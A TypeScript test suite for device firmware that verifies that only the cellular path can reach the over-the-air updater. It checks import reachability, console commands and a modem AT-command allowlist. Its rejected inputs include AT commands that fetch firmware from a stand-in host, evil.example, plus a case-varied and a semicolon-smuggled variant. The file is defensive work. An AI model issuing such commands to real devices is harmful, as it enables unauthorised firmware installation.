/**
 * Only the cellular path can start an update. Structurally: nothing the USB console or the BLE
 * installer session is built from can reach the updater (no import path leads from them to
 * modules/ota), the console has no command for it, and its AT passthrough refuses every command
 * that could fetch, upload or apply firmware. The updater's notice door is reached from the
 * uplink's downlink handler.
 */
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { dirname, join, relative, resolve } from "node:path";
import { checkAtCommand } from "../../modules/console/at-allowlist.js";
import { helpText, parseCommand } from "../../modules/console/commands.js";

const ROOT = process.cwd();

function sources(directory: string): string[] {
  if (!existsSync(directory)) return [];
  return readdirSync(directory).flatMap((entry) => {
    const path = join(directory, entry);
    return statSync(path).isDirectory() ? sources(path) : entry.endsWith(".ts") ? [path] : [];
  });
}

/** Relative imports and re-exports of a file, resolved to .ts paths. */
function importsOf(file: string): string[] {
  const text = readFileSync(file, "utf8");
  const found: string[] = [];
  for (const match of text.matchAll(/(?:^|\n)\s*(?:import|export)[^;]*?from\s+["'](\.[^"']+)["']/g)) {
    found.push(resolve(dirname(file), match[1].replace(/\.js$/, ".ts")));
  }
  for (const match of text.matchAll(/import\(\s*["'](\.[^"']+)["']\s*\)/g)) {
    found.push(resolve(dirname(file), match[1].replace(/\.js$/, ".ts")));
  }
  return found;
}

/** Every file reachable from `roots` through relative imports. */
function closure(roots: readonly string[]): Set<string> {
  const seen = new Set<string>();
  const queue = [...roots];
  while (queue.length) {
    const file = queue.pop()!;
    if (seen.has(file) || !existsSync(file)) continue;
    seen.add(file);
    queue.push(...importsOf(file));
  }
  return seen;
}

const OTA = resolve(ROOT, "modules/ota");
/** The updater's door: the only code that can start an update. */
const AGENT = resolve(ROOT, "modules/ota/ota-agent.ts");

describe("ota: only the cellular path can start an update", () => {
  const firmwareEntryPoints = {
    "USB console": sources(resolve(ROOT, "modules/console")),
    "BLE installer session": sources(resolve(ROOT, "modules/ble")),
    "console services": [resolve(ROOT, "modules/logger/console-services.ts"), resolve(ROOT, "modules/logger/installer-status.ts")],
  };

  for (const [name, roots] of Object.entries(firmwareEntryPoints)) {
    it(`nothing the ${name} is built from reaches modules/ota`, () => {
      assert.ok(roots.some((file) => existsSync(file)), `${name}: sources found`);
      const reached = [...closure(roots)];
      assert.ok(reached.length >= roots.filter((file) => existsSync(file)).length);
      const ota = reached.filter((file) => file.startsWith(OTA)).map((file) => relative(ROOT, file));
      assert.deepEqual(ota, [], `${name} reaches the updater`);
    });
  }

  it("the installer app never reaches the updater", () => {
    // The app builds a simulated board, whose bootloader shares the updater's codecs, but not its door.
    const reached = closure(sources(resolve(ROOT, "hosts/sim/app")));
    assert.ok(reached.size > 5);
    assert.equal(reached.has(AGENT), false);
  });

  it("the import check sees through chains: the test world reaches the updater", () => {
    const reached = closure([resolve(ROOT, "test/ota/support/ota-world.ts")]);
    assert.ok(reached.has(AGENT), "the test world's firmware reaches the updater through the test support chain");
  });

  it("the console has no command that updates, flashes or downloads firmware", () => {
    for (const word of ["update", "ota", "firmware", "flash", "dfu", "fota", "upgrade", "install"]) {
      assert.equal(parseCommand(`${word} https://example.com/x.bin`).ok, false, word);
    }
    const help = helpText();
    assert.ok(help.ok);
    assert.ok(help.ok && !help.value.some((line) => /update|firmware|ota/i.test(line.split(/\s{2,}/)[1] ?? "")), help.ok ? help.value.join("\n") : "");
  });

  it("the AT passthrough refuses every command that fetches, uploads or applies firmware", () => {
    for (const line of [
      'AT+QFOTADL="https://evil.example/delta.zip"', "AT+QFOTADL=1", "AT+QFOTADL=?",
      'AT+QHTTPURL=40,80', "AT+QHTTPGET=80", "AT+QHTTPREADFILE=\"UFS:f\",80",
      'AT+QFUPL="UFS:fota/update.zip",1000', "AT+QFOPEN=\"UFS:fota/update.zip\"", "AT+QFWRITE=1,100",
      'at+qfotadl="https://evil.example/delta.zip"', "AT;+QFOTADL=1",
    ]) {
      assert.equal(checkAtCommand(line).ok, false, line);
    }
  });
});
